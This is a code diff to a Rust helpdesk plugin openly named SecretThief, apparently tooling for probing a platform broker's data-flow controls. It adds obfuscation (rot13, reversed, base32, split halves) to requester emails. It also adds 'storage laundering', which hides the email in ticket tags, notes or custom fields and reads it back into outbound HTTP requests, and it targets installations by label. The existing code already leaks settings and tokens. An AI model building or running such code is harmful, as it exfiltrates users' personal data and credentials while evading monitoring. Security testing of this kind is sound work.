@@ -6,8 +6,16 @@
 //!                "body": "... {email} ... {subject} ...", "encode": "base64"}]}
 //! ```
 //!
-//! `{email}` (the requester's email, read through the broker) and `{subject}` in a body
-//! or URL are replaced after `encode`: `plain`, `spaced`, `dashed`, `base64`, `hex`, `url`.
+//! `"for": "<label>"` addresses only the installation whose `label` setting matches.
+//! Storage laundering: `"store": "tag" | "note" | "custom"` writes the email (base32,
+//! lowercase, so it fits a tag) to the action's ticket; `"read_back": true` reads the
+//! ticket's tags, custom fields and comments and fills `{stored}` with them.
+//!
+//! `{email}` (the requester's email, read through the broker when `read_requester` is
+//! set, else the payload's own `"email"`, which the broker never handed out) and
+//! `{subject}` in a body, header or URL are replaced after `encode`: `plain`, `spaced`,
+//! `dashed`, `base64`, `hex`, `url`, `rot13`, `reversed`, `base32`. `{email1}` and
+//! `{email2}` are the email's two halves, for values split over requests or parts.
 //! The summary has one line per step: `settings.all=…`, `settings.get=…`, then
 //! `#<i> status=<n> body=<text>` (line breaks shown as ` | `) or
 //! `#<i> error=<kind>: <message>`.
@@ -37,6 +45,24 @@ fn base64(bytes: &[u8]) -> String {
     out
 }
 
+fn base32(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+    let mut out = String::new();
+    let (mut buffer, mut bits) = (0u32, 0);
+    for &b in bytes {
+        buffer = buffer << 8 | b as u32;
+        bits += 8;
+        while bits >= 5 {
+            bits -= 5;
+            out.push(ALPHABET[(buffer >> bits & 31) as usize] as char);
+        }
+    }
+    if bits > 0 {
+        out.push(ALPHABET[(buffer << (5 - bits) & 31) as usize] as char);
+    }
+    out
+}
+
 fn encode(value: &str, how: &str) -> String {
     match how {
         "spaced" => value
@@ -47,6 +73,16 @@ fn encode(value: &str, how: &str) -> String {
         "dashed" => value.replace(['@', '.'], "-"),
         "base64" => base64(value.as_bytes()),
         "hex" => value.bytes().map(|b| format!("{b:02x}")).collect(),
+        "rot13" => value
+            .chars()
+            .map(|c| match c {
+                'a'..='z' => ((c as u8 - b'a' + 13) % 26 + b'a') as char,
+                'A'..='Z' => ((c as u8 - b'A' + 13) % 26 + b'A') as char,
+                _ => c,
+            })
+            .collect(),
+        "reversed" => value.chars().rev().collect(),
+        "base32" => base32(value.as_bytes()),
         "url" => value
             .bytes()
             .map(|b| match b {
@@ -74,6 +110,13 @@ impl Plugin for SecretThief {
             return Ok(Outcome::new("ignored"));
         };
         let payload = Json::parse(&action.payload)?;
+        // `"for": "<label>"` addresses one installation: the one whose `label` setting
+        // matches (each installation of the thief has its own).
+        if let Some(label) = payload["for"].as_str()
+            && settings::get_raw("label").as_deref() != Some(&format!("\"{label}\""))
+        {
+            return Ok(Outcome::new("ignored"));
+        }
         let mut lines = Vec::new();
         if payload["read_settings"].as_bool() == Some(true) {
             lines.push(format!("settings.all={}", settings::all_raw()));
@@ -82,13 +125,34 @@ impl Plugin for SecretThief {
                 settings::get_raw("token").unwrap_or_else(|| "none".into())
             ));
         }
-        let mut email = String::new();
+        let mut email = payload["email"].as_str().unwrap_or_default().to_string();
         if payload["read_requester"].as_bool() == Some(true)
             && let Some(id) = action.ticket.requester_id.as_deref()
         {
             email = helpdesk::get_user(id)?.email.unwrap_or_default();
         }
         let subject = action.ticket.subject.clone().unwrap_or_default();
+        let ticket_id = action.ticket.id.clone();
+        let laundered = base32(email.as_bytes()).to_lowercase();
+        match payload["store"].as_str() {
+            Some("tag") => helpdesk::add_tags(&ticket_id, &[cut(&laundered, 64)])?,
+            Some("note") => helpdesk::add_internal_note(&ticket_id, &laundered)?,
+            Some("custom") => helpdesk::set_custom_field(&ticket_id, "escalation", &laundered)?,
+            _ => {}
+        }
+        let mut stored = String::new();
+        if payload["read_back"].as_bool() == Some(true) {
+            let ticket = helpdesk::get_ticket(&ticket_id)?;
+            stored.push_str(&ticket.tags.unwrap_or_default().join(" "));
+            for custom in ticket.custom_fields {
+                stored.push(' ');
+                stored.push_str(&custom.value);
+            }
+            for comment in helpdesk::list_comments(&ticket_id, 10)? {
+                stored.push(' ');
+                stored.push_str(&comment.body.unwrap_or_default());
+            }
+        }
         for (i, r) in payload["requests"]
             .as_array()
             .unwrap_or(&[])
@@ -96,9 +160,16 @@ impl Plugin for SecretThief {
             .enumerate()
         {
             let how = r["encode"].as_str().unwrap_or("plain");
+            let half = (0..=email.len() / 2)
+                .rev()
+                .find(|&i| email.is_char_boundary(i))
+                .unwrap_or(0);
             let fill = |s: &str| {
                 s.replace("{email}", &encode(&email, how))
+                    .replace("{email1}", &encode(&email[..half], how))
+                    .replace("{email2}", &encode(&email[half..], how))
                     .replace("{subject}", &encode(&subject, how))
+                    .replace("{stored}", &stored)
             };
             let mut req = Request::new(
                 r["method"].as_str().unwrap_or("GET"),
@@ -106,7 +177,7 @@ impl Plugin for SecretThief {
             );
             for h in r["headers"].as_array().unwrap_or(&[]) {
                 req = req.header(
-                    h[0].as_str().unwrap_or(""),
+                    &fill(h[0].as_str().unwrap_or("")),
                     &fill(h[1].as_str().unwrap_or("")),
                 );
             }
@@ -144,5 +215,8 @@ mod tests {
         assert_eq!(encode("a@b.c", "url"), "a%40b%2Ec");
         assert_eq!(encode("ab", "spaced"), "a b");
         assert_eq!(encode("a@b.c", "dashed"), "a-b-c");
+        assert_eq!(encode("Vera", "rot13"), "Iren");
+        assert_eq!(encode("ab", "reversed"), "ba");
+        assert_eq!(base32(b"foobar"), "MZXW6YTBOI");
     }
 }
